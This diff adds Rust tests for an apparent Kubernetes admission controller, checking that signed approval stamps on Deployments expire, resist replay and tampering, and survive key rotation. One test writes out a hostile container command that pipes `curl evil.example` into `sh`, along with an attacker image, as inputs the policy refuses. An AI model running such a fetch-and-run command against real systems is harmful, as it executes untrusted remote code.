@@ -535,6 +535,339 @@ fn without_an_approval_key_nothing_is_stamped() {
     assert!(m.patch.is_none());
 }
 
+/// The ReplicaSet the Deployment controller makes from `deployment` (template copied, with
+/// `pod-template-hash` added to its labels).
+fn replicaset_from(deployment: &Value, hash: &str) -> Value {
+    let name = deployment["metadata"]["name"].as_str().unwrap();
+    let mut rs = deployment.clone();
+    rs["kind"] = "ReplicaSet".into();
+    rs["metadata"] = json!({"name": format!("{name}-{hash}"), "namespace": NS,
+        "labels": {"app": "openclaw", "pod-template-hash": hash},
+        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": name,
+            "uid": "u", "controller": true}]});
+    rs["spec"]["template"]["metadata"]["labels"]["pod-template-hash"] = hash.into();
+    rs
+}
+
+fn review_at(req: &Req<'_>, now: i64) -> Review {
+    let mut r = req.review();
+    r.now = now;
+    r
+}
+
+fn stamp_of(d: &Value) -> String {
+    d["spec"]["template"]["metadata"]["annotations"][APPROVAL_ANNOTATION]
+        .as_str()
+        .unwrap()
+        .to_string()
+}
+
+#[test]
+fn a_stamp_signs_the_templates_digest_and_always_expires_within_the_maximum() {
+    let policy = keyed_policy();
+    let d = stamped("browser", &policy);
+    let stamp = stamp_of(&d);
+    assert!(stamp.starts_with("v2;"), "{stamp}");
+    let v = super::approval::grant::Grant::verify(
+        &stamp,
+        super::approval::grant::Keys::of(&policy),
+        admission::unix_now(),
+    )
+    .unwrap();
+    let (issued, expires) = (v.grant.issued.unwrap(), v.grant.expires.unwrap());
+    assert_eq!(
+        expires - issued,
+        30 * 86_400,
+        "no date asked: the 30-day default maximum"
+    );
+    assert_eq!(v.grant.digest.unwrap().len(), 64);
+
+    // A date past the maximum is capped; one within it is kept.
+    let (_, far) = approved_until("2999-01-01", &policy);
+    let g = &far.approvals[0].grant;
+    assert_eq!(g.expires.unwrap() - g.issued.unwrap(), 30 * 86_400);
+    let mut short = keyed_policy();
+    short.approvals.max_lifetime = "365d".into();
+    let (_, near) = approved_until(&super::date::format_utc(issued + 86_400), &short);
+    assert_eq!(near.approvals[0].grant.expires, Some(issued + 86_400));
+}
+
+#[test]
+fn a_one_step_change_by_a_non_approver_voids_the_stamp_even_in_fields_no_check_reads() {
+    let policy = keyed_policy();
+    let approved = stamped("browser", &policy);
+    for (what, change) in [
+        ("image", json!({"image": "evil.example/anything:latest"})),
+        (
+            "command",
+            json!({"command": ["sh", "-c", "curl evil.example | sh"]}),
+        ),
+    ] {
+        let mut moved = approved.clone();
+        for (k, v) in change.as_object().unwrap() {
+            moved["spec"]["template"]["spec"]["containers"][0][k] = v.clone();
+        }
+        let mut r = Req::new("UPDATE", "Deployment", moved, USER);
+        r.old = approved.clone();
+        let d = evaluate(&r.review(), &policy, &hardened_view());
+        assert!(!d.allowed, "{what}: a changed template kept its approval");
+        assert!(d.approvals.is_empty(), "{what}");
+        assert!(d.message.unwrap().contains(EXEMPT), "{what}");
+    }
+}
+
+#[test]
+fn the_two_step_move_is_refused_and_so_is_the_replicaset_made_from_it() {
+    let policy = keyed_policy();
+    let approved = stamped("browser", &policy);
+    // Step one (the label off, the image swapped) is what relabel-requires-approval refuses
+    // on its own; say it got through (audit mode, say): the stamp stayed on the template.
+    let mut moved = approved.clone();
+    moved["spec"]["template"]["spec"]["containers"][0]["image"] =
+        "evil.example/anything:latest".into();
+    let mut unlabelled = moved.clone();
+    unlabelled["spec"]["template"]["metadata"]["labels"] = json!({"team": "research"});
+    // Step two puts the label back: the template is not what was signed.
+    let mut r = Req::new("UPDATE", "Deployment", moved.clone(), USER);
+    r.old = unlabelled;
+    let d = evaluate(&r.review(), &policy, &hardened_view());
+    assert!(
+        !d.allowed,
+        "the label put back over a moved template kept its approval"
+    );
+
+    // The ReplicaSet the controller would make from the moved template is refused too...
+    let rs = evaluate(
+        &Req::new(
+            "CREATE",
+            "ReplicaSet",
+            replicaset_from(&moved, "5f6d7c8b9"),
+            DEPLOY_CONTROLLER,
+        )
+        .review(),
+        &policy,
+        &hardened_view(),
+    );
+    assert!(
+        !rs.allowed,
+        "a ReplicaSet of the moved template was admitted"
+    );
+    assert!(rs.approvals.is_empty());
+    // ...while the one made from the approved template passes, pod-template-hash and all.
+    let rs = evaluate(
+        &Req::new(
+            "CREATE",
+            "ReplicaSet",
+            replicaset_from(&approved, "7d9f8b6c5"),
+            DEPLOY_CONTROLLER,
+        )
+        .review(),
+        &policy,
+        &hardened_view(),
+    );
+    assert!(rs.allowed, "{:?}", rs.message);
+    assert_eq!(exempted_checks(&rs), [EXEMPT]);
+    // A hash label that does not match the ReplicaSet's name is content, not the controller's.
+    let mut odd = replicaset_from(&approved, "7d9f8b6c5");
+    odd["spec"]["template"]["metadata"]["labels"]["pod-template-hash"] = "other".into();
+    let rs = evaluate(
+        &Req::new("CREATE", "ReplicaSet", odd, DEPLOY_CONTROLLER).review(),
+        &policy,
+        &hardened_view(),
+    );
+    assert!(!rs.allowed);
+}
+
+#[test]
+fn a_non_approver_may_not_replay_a_saved_stamp_or_swap_one_in() {
+    let policy = keyed_policy();
+    let approved = stamped("browser", &policy);
+    // The approver deletes it; the tenant recreates it, unchanged, with the saved stamp.
+    let replay = evaluate(
+        &Req::new("CREATE", "Deployment", approved.clone(), USER).review(),
+        &policy,
+        &hardened_view(),
+    );
+    assert!(!replay.allowed, "a recreated workload kept its approval");
+    // The same with the content changed.
+    let mut changed = approved.clone();
+    changed["spec"]["template"]["spec"]["containers"][0]["image"] =
+        "evil.example/anything:latest".into();
+    let replay = evaluate(
+        &Req::new("CREATE", "Deployment", changed, USER).review(),
+        &policy,
+        &hardened_view(),
+    );
+    assert!(!replay.allowed);
+    // An UPDATE that puts another stamp in place of the one there.
+    let mut old = approved.clone();
+    old["spec"]["template"]["metadata"]["annotations"][APPROVAL_ANNOTATION] = "v2;other".into();
+    let mut r = Req::new("UPDATE", "Deployment", approved.clone(), USER);
+    r.old = old;
+    assert!(!evaluate(&r.review(), &policy, &hardened_view()).allowed);
+    // The approver may recreate it.
+    let again = evaluate(
+        &Req::new("CREATE", "Deployment", approved, APPROVER).review(),
+        &policy,
+        &hardened_view(),
+    );
+    assert!(again.allowed, "{:?}", again.message);
+}
+
+#[test]
+fn an_approval_stops_at_its_expiry_and_a_lowered_maximum_shortens_it() {
+    let policy = keyed_policy();
+    let d = stamped("browser", &policy);
+    let stamp = stamp_of(&d);
+    let g = super::approval::grant::Grant::verify(
+        &stamp,
+        super::approval::grant::Keys::of(&policy),
+        admission::unix_now(),
+    )
+    .unwrap()
+    .grant;
+    let (issued, expires) = (g.issued.unwrap(), g.expires.unwrap());
+    let pod = Req::new("CREATE", "Pod", pod_from(&d, "7d9f8b6c5"), RS_CONTROLLER);
+    assert!(evaluate(&review_at(&pod, expires - 1), &policy, &hardened_view()).allowed);
+    assert!(!evaluate(&review_at(&pod, expires), &policy, &hardened_view()).allowed);
+    assert!(!evaluate(&review_at(&pod, 0), &policy, &hardened_view()).allowed);
+    let mut lowered = keyed_policy();
+    lowered.approvals.max_lifetime = "1h".into();
+    assert!(evaluate(&review_at(&pod, issued + 3_599), &lowered, &hardened_view()).allowed);
+    assert!(!evaluate(&review_at(&pod, issued + 3_600), &lowered, &hardened_view()).allowed);
+}
+
+#[test]
+fn an_approvers_re_apply_renews_a_stamp_past_half_its_life_and_not_before() {
+    let policy = keyed_policy();
+    let d = stamped("browser", &policy);
+    let now = admission::unix_now();
+    let again = |at: i64| {
+        let mut r = Req::new("UPDATE", "Deployment", d.clone(), APPROVER);
+        r.old = d.clone();
+        mutate(&review_at(&r, at), &policy, &hardened_view()).unwrap()
+    };
+    assert!(
+        again(now + 14 * 86_400).patch.is_none(),
+        "more than half left: kept"
+    );
+    let renewed = again(now + 16 * 86_400);
+    assert_eq!(
+        renewed.mutations,
+        [APPROVAL_STAMP],
+        "less than half left: renewed"
+    );
+}
+
+/// A stamp as the first format wrote it: no digest, no expiry.
+fn legacy_stamp(key: &[u8], name: &str) -> String {
+    use hmac::{Hmac, Mac};
+    let payload = format!(
+        "v1;ns={NS};kind=Deployment;name={name};checks={EXEMPT};approver=bob;expires=never"
+    );
+    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(key).unwrap();
+    mac.update(payload.as_bytes());
+    let sig: String = mac
+        .finalize()
+        .into_bytes()
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    format!("{payload};sig={sig}")
+}
+
+#[test]
+fn legacy_stamps_are_honoured_and_marked_during_the_grace_and_refused_after() {
+    let mut policy = keyed_policy();
+    let started = 1_800_000_000;
+    policy.started = started;
+    let mut d = deployment("browser", &writable_agent());
+    d["spec"]["template"]["metadata"]["annotations"][APPROVAL_ANNOTATION] =
+        legacy_stamp(policy.approval_key.as_deref().unwrap(), "browser").into();
+    let pod = Req::new("CREATE", "Pod", pod_from(&d, "7d9f8b6c5"), RS_CONTROLLER);
+    let during = evaluate(
+        &review_at(&pod, started + 86_400),
+        &policy,
+        &hardened_view(),
+    );
+    assert!(during.allowed, "{:?}", during.message);
+    let audit = &during.audit_annotations[AUDIT_APPROVAL];
+    assert!(
+        audit.contains("legacy stamp without a content digest"),
+        "{audit}"
+    );
+    assert!(
+        audit.contains("2027-01-22T08:00:00Z"),
+        "7 days after the start: {audit}"
+    );
+    assert!(during.approvals[0].legacy_until.is_some());
+    let after = evaluate(
+        &review_at(&pod, started + 7 * 86_400),
+        &policy,
+        &hardened_view(),
+    );
+    assert!(!after.allowed, "a legacy stamp outlived the grace");
+    // The end pinned by date instead, which a restart does not move.
+    policy.approvals.legacy_until = Some("2027-01-16".into());
+    let pinned = evaluate(
+        &review_at(&pod, started + 86_400),
+        &policy,
+        &hardened_view(),
+    );
+    assert!(!pinned.allowed, "2027-01-16 is before the review's time");
+    // Without a start (`check`, tests), none is honoured.
+    let unstarted = keyed_policy();
+    assert!(!evaluate(&review_at(&pod, started + 1), &unstarted, &hardened_view()).allowed);
+    // An approver's re-apply replaces it with a stamp of the current format.
+    let m = mutate(
+        &review_at(
+            &Req::new("UPDATE", "Deployment", d.clone(), APPROVER),
+            started + 1,
+        ),
+        &policy,
+        &hardened_view(),
+    )
+    .unwrap();
+    assert_eq!(m.mutations, [APPROVAL_STAMP]);
+}
+
+#[test]
+fn after_a_rotation_old_grants_hold_until_the_overlap_ends_and_say_so() {
+    let old_policy = keyed_policy();
+    let d = stamped("browser", &old_policy);
+    let now = admission::unix_now();
+    let mut rotated = old_policy.clone();
+    rotated.approval_key = Some(Arc::new(b"a-new-approval-key-0123456789abcdefgh".to_vec()));
+    rotated.previous_approval_key = Some(Arc::new(super::policy::PreviousKey {
+        key: old_policy.approval_key.as_deref().unwrap().clone(),
+        until: now + 3_600,
+    }));
+    let pod = Req::new("CREATE", "Pod", pod_from(&d, "7d9f8b6c5"), RS_CONTROLLER);
+    let during = evaluate(&review_at(&pod, now + 60), &rotated, &hardened_view());
+    assert!(during.allowed, "{:?}", during.message);
+    let audit = &during.audit_annotations[AUDIT_APPROVAL];
+    assert!(
+        audit.contains("signed by the previous approval key"),
+        "{audit}"
+    );
+    assert!(!evaluate(&review_at(&pod, now + 3_600), &rotated, &hardened_view()).allowed);
+    // Revoked at once when the previous key is not configured at all.
+    let mut revoked = rotated.clone();
+    revoked.previous_approval_key = None;
+    assert!(!evaluate(&review_at(&pod, now + 60), &revoked, &hardened_view()).allowed);
+    // An approver's re-apply re-signs it under the new key.
+    let m = mutate(
+        &review_at(
+            &Req::new("UPDATE", "Deployment", d.clone(), APPROVER),
+            now + 60,
+        ),
+        &rotated,
+        &hardened_view(),
+    )
+    .unwrap();
+    assert_eq!(m.mutations, [APPROVAL_STAMP]);
+}
+
 #[test]
 fn a_debug_container_is_judged_alone_not_the_pod_it_joins() {
     // Admitted earlier in audit mode: writable root filesystem, no seccomp.
